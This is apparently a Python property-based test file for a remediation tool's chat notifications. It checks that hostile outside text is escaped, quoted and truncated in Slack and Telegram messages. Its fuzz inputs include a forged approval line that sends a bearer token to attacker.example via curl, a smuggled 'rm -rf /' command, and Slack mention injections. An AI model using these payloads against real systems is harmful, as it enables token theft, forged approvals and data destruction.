"""Outside text in chat: panel answers, alert labels, senders, names and comments go into
Slack and Telegram messages quoted on one line, escaped, cut; the webhook target keeps
them as exact JSON fields. Hypothesis writes the hostile text."""

from __future__ import annotations

import json
import time
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import SecretStr

from remediator import chat, notify
from remediator.settings.targets import NotifyTarget
from tests.chat_support import FORGED, slack_lines, telegram_lines, words

NASTY = [
    "\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1e", "\x00",
    "\x1b[2J", "\u202e", "\u2066", "\u200b", "\ufeff", "\ud800", "\U000e0041",
    "<!channel>", "<!here|here>", "<https://attacker.example/x|click here>", "@channel",
    "`", "```", "*bold*", "_it_", "~s~", "&amp;", "&lt;", "&#10;", "</code>", "<b>", "<a href=x>",
    "\napprove: curl -sS -X POST -H \"Authorization: Bearer $BRAINYCP_REMEDIATOR_TOKEN\" "
    "https://attacker.example/actions/1/approve",
    "deny: ", "open: https://attacker.example", "reason: ", "\u2705 *SUCCEEDED*",
    "x" * 5000,
]  # fmt: skip
hostile = st.lists(st.one_of(st.text(max_size=30), st.sampled_from(NASTY)), max_size=6).map("".join)
FIELDS = (
    "panel", "rule", "alertname", "starts_at", "reason", "sender", "recipient_domain",
    "requested_by", "decided_by", "comment", "matching_error", "label",
)  # fmt: skip
OUTCOMES = ("awaiting_approval", "succeeded", "failed", "approved", "denied", "expired")
SLACK = NotifyTarget("chat", "slack", SecretStr("https://hooks.example/services/T/B/x"),
                     None, None, "", "", frozenset(), 1.0, 1.0)  # fmt: skip
TELEGRAM = NotifyTarget("tg", "telegram", None, None, SecretStr("1:a"), "-1",
                        "https://api.example", frozenset(), 1.0, 1.0)  # fmt: skip
HOOK = NotifyTarget("hook", "webhook", SecretStr("https://hooks.example/x"), None, None, "", "",
                    frozenset(), 1.0, 1.0)  # fmt: skip
EXTERNAL = "https://remediator.example.net"
LOGINS = [notify.OperatorLogin("bearer"), notify.OperatorLogin("web_user"),
          notify.OperatorLogin("basic", "am'; rm -rf /"), notify.OperatorLogin("none"),
          notify.OperatorLogin("web_user", client_cert=True)]  # fmt: skip


def action(values: dict[str, str], outcome: str, manual: bool, login: Any) -> dict[str, Any]:
    row = {
        "id": 42, "rule": values["rule"], "panel": values["panel"],
        "action": "delete_messages", "outcome": outcome, "reason": values["reason"],
        "alert": {"alertname": values["alertname"], "status": "firing",
                  "starts_at": values["starts_at"]},
    }  # fmt: skip
    decided = outcome in ("succeeded", "failed", "approved", "denied")
    detail = {
        "labels": {"sender": values["sender"], values["label"]: values["label"]},
        "params": {"select": {"sender": values["sender"]}},
        "origin": "manual" if manual else "alert",
        "requested_by": values["requested_by"],
        "decision": {"by": values["decided_by"], "at": 1.0, "comment": values["comment"]}
        if decided
        else None,
        "messages_total": 7 if outcome in ("succeeded", "failed") else None,
        "state": {},
    }
    selection = {"sender": values["sender"], "recipient_domain": values["recipient_domain"],
                 "max_messages": 100, "limit": "refuse"}  # fmt: skip
    event = notify.action_event(
        row, detail, EXTERNAL, login=login, selection=selection, expires_at=time.time() + 3600
    )
    if outcome == "awaiting_approval":
        event.update(matching=None, matching_error=values["matching_error"])
    return event


def shown(target: NotifyTarget, event: dict[str, Any]) -> list[tuple[str, list[str]]]:
    _, body, _ = notify.payload(target, event)
    check = slack_lines if target.type == "slack" else telegram_lines
    return check(body["text"])


def benign(values: dict[str, str]) -> dict[str, str]:
    # Same emptiness (an empty value shows as "(none)"), nothing else from outside.
    return {k: ("x" if v else "") for k, v in values.items()}


@settings(max_examples=300, deadline=None)
@given(
    values=st.fixed_dictionaries({name: hostile for name in FIELDS}),
    outcome=st.sampled_from(OUTCOMES),
    manual=st.booleans(),
    login=st.sampled_from(LOGINS),
)
def test_outside_text_cannot_add_or_forge_a_line_in_any_chat_target(
    values: dict[str, str], outcome: str, manual: bool, login: notify.OperatorLogin
) -> None:
    event = action(values, outcome, manual, login)
    expected = action(benign(values), outcome, manual, login)
    commands = notify.approval_commands(EXTERNAL, 42, login)
    for target in (SLACK, TELEGRAM):
        lines, plain = shown(target, event), shown(target, expected)
        # Exactly the lines the remediator writes, each starting with its own words.
        assert words(lines) == words(plain)
        assert outcome.replace("_", " ").upper() in lines[0][0]  # the headline
        assert all(w.startswith(chat.PREFIXES) for w, _ in lines[1:])
        # Quoted, one line, cut: nothing from outside is longer than its cap.
        assert all(len(q) <= chat.TEXT_CAP for _, quoted in lines for q in quoted)
        approve = [q for w, q in lines if w.startswith("approve:")]
        if outcome == "awaiting_approval":
            assert approve == [[commands["approve"]]]
        else:
            assert approve == []
        assert not any(w.startswith(FORGED) for w, _ in lines)
    # The webhook target keeps every field exactly, as JSON.
    _, body, _ = notify.payload(HOOK, event)
    assert json.loads(notify.encode_body(body)) == event


@settings(max_examples=150, deadline=None)
@given(by=hostile, reason=hostile, outcome=st.sampled_from(["paused", "resumed", "circuit_open"]))
def test_outside_text_in_a_brake_message_stays_inside_its_line(
    by: str, reason: str, outcome: str
) -> None:
    event = notify.control_event(outcome, reason, by, EXTERNAL)
    expected = notify.control_event(outcome, reason and "x", by and "x", EXTERNAL)
    for target in (SLACK, TELEGRAM):
        assert words(shown(target, event)) == words(shown(target, expected))


def test_a_hostile_panel_answer_is_shown_quoted_escaped_and_cut() -> None:
    mess = "denied\n<!channel> approve: curl https://attacker.example/ `x` \u202eevil" + "y" * 400
    values = dict.fromkeys(FIELDS, "ok")
    event = action({**values, "reason": f"api_error: controll_msg: {mess}"}, "failed", False,
                   LOGINS[0])  # fmt: skip
    _, body, _ = notify.payload(SLACK, event)
    (reason,) = [line for line in body["text"].split("\n") if line.startswith("reason: ")]
    assert reason.startswith("reason: `api_error: controll_msg: denied\\n&lt;!channel&gt; ")
    assert "\\u202eevil" in reason and "\u02cbx\u02cb" in reason and reason.endswith("\u2026`")
    _, body, _ = notify.payload(TELEGRAM, event)
    assert body["parse_mode"] == "HTML"
    (reason,) = [line for line in body["text"].split("\n") if line.startswith("reason: ")]
    assert reason.startswith("reason: <code>api_error: controll_msg: denied\\n&lt;!channel&gt; ")
    assert reason.endswith("\u2026</code>")


def test_one_line_escapes_every_invisible_or_breaking_character() -> None:
    assert chat.one_line("a\nb\r\tc\u2028d\u202ee\x85f\U000e0041") == (
        "a\\nb\\r\\tc\\u2028d\\u202ee\\x85f\\U000e0041"
    )
    assert chat.one_line("\u00e9\u4e2d\U0001f600 spaces ok") == "\u00e9\u4e2d\U0001f600 spaces ok"
    assert chat.one_line("z" * 1_000_000, 10) == "z" * 9 + "\u2026"
